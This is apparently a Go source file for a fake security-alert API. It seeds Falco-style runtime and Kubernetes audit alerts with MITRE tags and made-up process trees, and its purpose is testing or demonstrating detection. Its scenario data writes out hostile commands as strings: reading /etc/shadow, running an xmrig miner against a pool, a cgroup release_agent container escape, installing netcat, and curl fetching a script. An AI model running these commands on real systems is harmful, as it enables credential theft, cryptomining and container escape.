package fakeapi

import (
	"fmt"
	"math/rand/v2"
	"path"
	"time"
)

type scenario struct {
	rule, priority, source, output string
	tags                           []string
	exe, cmdline                   string
	weight                         int
}

var scenarios = []scenario{
	{"Terminal shell in container", "Notice", "syscall", "A shell was spawned in a container with an attached terminal (user=root shell=bash parent=runc cmdline=bash -i)",
		[]string{"container", "shell", "T1059", "mitre_execution"}, "/usr/bin/bash", "bash -i", 6},
	{"Read sensitive file untrusted", "Warning", "syscall", "Sensitive file opened for reading by non-trusted program (file=/etc/shadow program=cat)",
		[]string{"filesystem", "T1552.007", "mitre_credential_access"}, "/usr/bin/cat", "cat /etc/shadow", 4},
	{"Drop and execute new binary in container", "Critical", "syscall", "Executing binary not part of base image (proc.exe=/tmp/xmrig)",
		[]string{"container", "T1105", "mitre_command_and_control"}, "/tmp/xmrig", "/tmp/xmrig -o pool.example:3333", 1},
	{"Container escape via release_agent", "Critical", "syscall", "Write to cgroup release_agent detected (file=/sys/fs/cgroup/release_agent)",
		[]string{"container", "T1611", "mitre_privilege_escalation"}, "/usr/bin/sh", "sh -c echo /cmd > /sys/fs/cgroup/release_agent", 1},
	{"Attach/Exec Pod", "Notice", "k8s_audit", "Attach/Exec to pod (user=alice pod=web-7d9c ns=shop action=exec command=sh)",
		[]string{"k8s", "T1609", "mitre_execution"}, "", "", 5},
	{"Create Privileged Pod", "Warning", "k8s_audit", "Pod started with privileged container (user=alice pod=debug ns=kube-system image=busybox)",
		[]string{"k8s", "T1611", "mitre_privilege_escalation"}, "", "", 2},
	{"ClusterRole With Wildcard Created", "Warning", "k8s_audit", "Created Role/ClusterRole with wildcard (user=alice role=all-powerful rules=*)",
		[]string{"k8s", "T1098", "mitre_persistence"}, "", "", 2},
	{"K8s Secret Get Successfully", "Error", "k8s_audit", "K8s secret was read (user=system:serviceaccount:shop:default secret=db-creds ns=shop)",
		[]string{"k8s", "T1552.007", "mitre_credential_access"}, "", "", 2},
	{"Launch Package Management Process in Container", "Error", "syscall", "Package management process launched in container (command=apt-get install -y netcat)",
		[]string{"container", "process", "mitre_persistence"}, "/usr/bin/apt-get", "apt-get install -y netcat", 3},
	{"Contact K8S API Server From Container", "Informational", "syscall", "Unexpected connection to K8s API Server from container (connection=10.0.3.7:41532->10.96.0.1:443)",
		[]string{"network", "k8s", "T1613", "mitre_discovery"}, "/usr/bin/curl", "curl -sk https://kubernetes.default/api", 3},
}

type workload struct{ ns, pod, image, node string }

var workloads = []workload{
	{"shop", "web-7d9c6f5b8-x2k4p", "registry.example/shop/web:1.14.2", "node-a"},
	{"shop", "cart-5b6f8d9c7-qq8lm", "registry.example/shop/cart:2.3.0", "node-b"},
	{"payments", "api-6c8d7e9f4-h7t2r", "registry.example/payments/api:0.9.1", "node-a"},
	{"kube-system", "coredns-5d78c9869d-4vzxm", "registry.k8s.io/coredns/coredns:v1.11.1", "node-c"},
	{"monitoring", "grafana-0", "grafana/grafana:11.1.0", "node-b"},
}

// seed fills in a week of alerts, denser in the last day.
func (a *API) seed() {
	r := rand.New(rand.NewPCG(1, 2))
	now := a.now()
	var pool []int
	for i, s := range scenarios {
		for range s.weight {
			pool = append(pool, i)
		}
	}
	var times []time.Time
	for range 160 {
		times = append(times, now.Add(-time.Duration(r.Float64()*float64(7*24*time.Hour))))
	}
	for range 90 {
		times = append(times, now.Add(-time.Duration(r.Float64()*float64(24*time.Hour))))
	}
	// Oldest first, so IDs grow with time.
	for i := range times {
		for j := i + 1; j < len(times); j++ {
			if times[j].Before(times[i]) {
				times[i], times[j] = times[j], times[i]
			}
		}
	}
	for i, t := range times {
		s := scenarios[pool[r.IntN(len(pool))]]
		wl := workloads[r.IntN(len(workloads))]
		al, prov := Make(s, wl, t, 1000+i*7)
		if r.IntN(5) == 0 {
			al.Status = "resolved"
		} else if r.IntN(5) == 0 {
			al.Status = "acknowledged"
		}
		a.Add(al, prov)
	}
}

// Sample returns the i-th made-up alert, with provenance for syscall ones.
func Sample(i int, t time.Time) (Alert, *Provenance) {
	return Make(scenarios[i%len(scenarios)], workloads[i%len(workloads)], t, 4000+i*7)
}

// Make builds an alert of scenario s on workload wl at t, pid base pid.
func Make(s scenario, wl workload, t time.Time, pid int) (Alert, *Provenance) {
	t = t.UTC()
	al := Alert{Time: t, Rule: s.rule, Priority: s.priority, Source: s.source, Output: s.output, Tags: s.tags,
		Hostname: wl.node, Namespace: wl.ns, Pod: wl.pod, Node: wl.node}
	if s.source != "syscall" {
		al.Hostname = "control-plane"
		al.Node = "control-plane"
		al.OutputFields = map[string]any{"ka.user.name": "alice", "ka.target.namespace": wl.ns, "ka.target.resource": "pods",
			"ka.target.name": wl.pod, "ka.verb": "create", "ka.response.code": 201, "ka.auditid": fmt.Sprintf("5e1c%04x-9a2b-4c1d-8e3f-0a1b2c3d4e5f", pid)}
		return al, nil
	}
	cid := fmt.Sprintf("%012x", uint64(pid)*0x9e3779b1%0xffffffffffff)
	al.Container, al.Image = cid, wl.image
	shim := Proc{PID: pid - 40, PPID: 1, Exe: "/usr/bin/containerd-shim-runc-v2", Cmdline: "containerd-shim-runc-v2 -namespace k8s.io -id " + cid, User: "root", UID: 0, StartTime: t.Add(-3 * time.Hour)}
	init := Proc{PID: pid - 20, PPID: shim.PID, Exe: "/usr/local/bin/node", Cmdline: "node server.js", User: "app", UID: 1000, StartTime: t.Add(-3 * time.Hour), ContainerID: cid}
	sh := Proc{PID: pid - 5, PPID: init.PID, Exe: "/usr/bin/sh", Cmdline: "sh -c " + s.cmdline, User: "root", UID: 0, StartTime: t.Add(-2 * time.Second), ContainerID: cid}
	p := Proc{PID: pid, PPID: sh.PID, Exe: s.exe, Cmdline: s.cmdline, User: "root", UID: 0, StartTime: t, ContainerID: cid}
	prov := &Provenance{Process: p, Ancestors: []Proc{sh, init, shim}}
	if s.exe == "/usr/bin/bash" {
		prov.Children = []Proc{
			{PID: pid + 3, PPID: pid, Exe: "/usr/bin/id", Cmdline: "id", User: "root", StartTime: t.Add(time.Second), ContainerID: cid},
			{PID: pid + 4, PPID: pid, Exe: "/usr/bin/curl", Cmdline: "curl -s http://10.0.0.5/x.sh", User: "root", StartTime: t.Add(4 * time.Second), ContainerID: cid},
		}
	}
	al.OutputFields = map[string]any{"container.id": cid, "container.image.repository": wl.image, "k8s.ns.name": wl.ns, "k8s.pod.name": wl.pod,
		"proc.name": path.Base(p.Exe), "proc.cmdline": p.Cmdline, "proc.pid": p.PID, "proc.ppid": p.PPID, "proc.pname": "sh", "user.name": "root", "evt.type": "execve"}
	return al, prov
}
